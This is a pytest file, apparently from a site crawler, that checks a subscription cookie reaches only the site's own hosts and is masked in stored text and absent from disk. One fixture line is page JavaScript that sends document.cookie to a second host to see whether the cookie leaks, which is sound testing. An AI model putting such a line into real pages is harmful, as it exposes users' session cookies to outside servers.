"""A subscription's cookie goes to the site's own hosts with what its pages ask for, and into no browser and no file."""

import json
from pathlib import Path

import pytest

from schemas.errors import Exit
from tests.browser.paper import APP, FRAME, NEEDED, PUMPS, QUAY, code, desk_over, serve, words
from tests.crawl.test_secrets import on_disk
from tests.small_site import serving

pytestmark = NEEDED
COOKIE = "sid-cookie-4f71c2"
SHOWS = APP + "fetch('http://%s/count.json?c=' + document.cookie).catch(() => 0);"


def test_the_cookie_of_a_site_file_reaches_its_own_hosts_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HARBOUR_COOKIE", f"sid={COOKIE}")
    with serving() as paper, serving() as cdn:
        serve(paper)
        host = f"localhost:{cdn.port}"
        told = {"title": "The quay is closed", "at": "2026-03-14T09:00:00Z", "text": [*words(QUAY), f"For {COOKIE}."]}
        paper.pages |= {
            f"/api{QUAY}": (200, {"Content-Type": "application/json"}, json.dumps(told).encode()),
            "/app.js": code(SHOWS % host),
            QUAY: (200, {"Set-Cookie": f"sid={COOKIE}; Path=/"}, FRAME.replace(b"<body>", f"<body>{COOKIE}".encode())),
        }
        desk = desk_over(paper, tmp_path, f'cookies = "env:HARBOUR_COOKIE"\nrender_hosts = ["{host}"]')
        assert desk.run() == Exit.COMPLETE
        assert {QUAY, PUMPS, "/app.js", f"/api{QUAY}"} <= set(paper.paths())
        assert {hit.headers.get("Cookie") for hit in paper.hits} == {f"sid={COOKIE}"}
        assert "/count.json?c=" in cdn.paths()
        assert {hit.headers.get("Cookie") for hit in cdn.hits} == {None}
    ((text,),) = desk.rows("SELECT text FROM articles WHERE url LIKE '%quay%'")
    assert str(text).endswith(f"For {'*' * len(COOKIE)}.")
    (tmp_path / "tmp").mkdir()
    assert [path for path, data in on_disk(tmp_path) if COOKIE.encode() in data] == []
